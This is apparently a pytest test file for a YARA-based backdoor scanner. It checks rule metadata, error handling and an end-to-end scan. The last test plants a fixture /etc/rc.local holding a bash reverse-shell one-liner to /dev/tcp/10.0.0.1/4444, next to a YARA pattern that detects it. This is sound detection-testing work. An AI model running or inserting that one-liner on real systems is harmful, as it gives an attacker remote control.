"""Tests of the user-YARA check (checks/yara.py): compile per file, category/severity from metadata, errors
reported, identical contents scanned once, not applicable without rules."""

from __future__ import annotations

from pathlib import Path

import pytest
from conftest import findings

import veracity.checks.registry
from veracity.checks import yara as yara_mod
from veracity.checks.base import NotApplicable
from veracity.checks.yara import YaraCheck
from veracity.options import ScanOptions
from veracity.testing.memfs import inventory_from

pytest.importorskip("yara_x")

RULES = {
    "implants.yar": """
rule magic_ua {
  meta:
    category = "backdoor.magic-auth"
    severity = "critical"
    description = "magic user agent"
    reference = "https://example.org/advisory"
  strings:
    $ua = "Qz7_kP2xw9LmT4-agent"
  condition:
    $ua
}
rule known_sample {
  meta:
    category = "backdoor.known"
    backdoor_id = "example-implant-2024"
  strings:
    $a = { 13 37 ca fe ?? be ef }
  condition:
    $a
}
""",
    "sub/other.yara": """
rule no_category {
  meta:
    category = "not-a-category"
    severity = "bogus"
  strings:
    $s = "evil-marker-42"
  condition:
    $s
}
rule magic_ua { strings: $x = "never-present-xyz" condition: $x }
""",
    "README.txt": "not a rule file",
}


def _rules(tmp_path: Path, files: dict[str, str]) -> Path:
    root = tmp_path / "rules"
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    return root


def _run(tmp_path: Path, files: dict[str, bytes | str], rules: dict[str, str]):
    inv = inventory_from(files, tmp_path)
    check = YaraCheck(ScanOptions(yara_rules=_rules(tmp_path, rules)))
    return list(check.run(inv, {}))


def test_matches_carry_category_severity_and_metadata(tmp_path):
    found = _run(tmp_path, {
        "/usr/sbin/httpd": b"\x7fELF....User-Agent: Qz7_kP2xw9LmT4-agent\x00",
        "/usr/bin/copy": b"\x7fELF....User-Agent: Qz7_kP2xw9LmT4-agent\x00",  # same content: scanned once
        "/lib/libx.so": b"\x00\x13\x37\xca\xfe\x00\xbe\xef\x00",
        "/etc/motd": "evil-marker-42\n",
        "/etc/clean": "nothing to see\n",
    }, RULES)
    by_path = {(f.path, f.rule): f for f in found}
    ua = by_path[("/usr/sbin/httpd", "VER-YAR-101")]
    assert ua.category == "backdoor.magic-auth" and ua.severity == "critical"
    assert ua.title == "YARA magic_ua: magic user agent"
    assert ua.evidence.startswith("implants.yar:magic_ua ($ua@0x")
    assert "https://example.org/advisory" in ua.references
    assert ("/usr/bin/copy", "VER-YAR-101") in by_path
    known = by_path[("/lib/libx.so", "VER-YAR-100")]
    assert known.category == "backdoor.known" and known.backdoor_id == "example-implant-2024"
    assert known.severity == "high" and known.offset == 1
    other = by_path[("/etc/motd", f"VER-YAR-1{list(yara_mod.BY_CATEGORY).index('code.malicious'):02d}")]
    assert other.category == "code.malicious" and other.severity == "high"
    assert not [f for f in found if f.path == "/etc/clean"]
    assert len(found) == 4


def test_rule_file_with_error_is_reported_and_others_still_run(tmp_path):
    rules = {"good.yar": 'rule hit { strings: $a = "marker-77" condition: $a }', "bad.yar": "rule { broken"}
    found = _run(tmp_path, {"/etc/x": "marker-77\n"}, rules)
    errors = [f for f in found if f.rule == "VER-YAR-001"]
    assert len(errors) == 1 and errors[0].evidence.startswith("bad.yar:") and errors[0].category == "analysis.incomplete"
    assert [f.path for f in found if f.rule.startswith("VER-YAR-1")] == ["/etc/x"]


def test_empty_or_missing_rules_directory(tmp_path):
    inv = inventory_from({"/etc/x": "x\n"}, tmp_path)
    (tmp_path / "empty").mkdir()
    found = list(YaraCheck(rules_dir=tmp_path / "empty").run(inv, {}))
    assert [f.rule for f in found] == ["VER-YAR-001"] and "no *.yar" in found[0].evidence
    found = list(YaraCheck(rules_dir=tmp_path / "missing").run(inv, {}))
    assert [f.rule for f in found] == ["VER-YAR-001"] and "not a directory" in found[0].evidence


def test_not_applicable_without_rules(tmp_path):
    inv = inventory_from({"/etc/x": "x\n"}, tmp_path)
    with pytest.raises(NotApplicable):
        list(YaraCheck(ScanOptions()).run(inv, {}))


def test_configure_sets_default_directory(tmp_path):
    rules = _rules(tmp_path, {"r.yar": 'rule hit { strings: $a = "marker-88" condition: $a }'})
    inv = inventory_from({"/etc/x": "marker-88\n"}, tmp_path)
    yara_mod.configure(rules)
    try:
        assert [f.path for f in YaraCheck().run(inv, {})] == ["/etc/x"]
    finally:
        yara_mod.configure(None)


def test_rule_ids_follow_categories():
    ids = [r.id for r in YaraCheck.RULES]
    assert len(ids) == len(set(ids))
    for category, rule in yara_mod.BY_CATEGORY.items():
        assert rule.category == category


def test_end_to_end_scan(tmp_path, monkeypatch, run_scan):
    rules = _rules(tmp_path, {"r.yar": 'rule hit { meta: category = "code.reverse-shell" strings: $a = "/dev/tcp/" condition: $a }'})
    target = tmp_path / "target"
    (target / "etc").mkdir(parents=True)
    (target / "etc" / "rc.local").write_text("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n")
    monkeypatch.setattr(veracity.checks.registry, "CHECKS", (YaraCheck(rules_dir=rules),))
    report = run_scan(target)
    hits = findings(report, category="code.reverse-shell")
    assert [(f["path"], f["rule"]) for f in hits] == [("/etc/rc.local", yara_mod.BY_CATEGORY["code.reverse-shell"].id)]
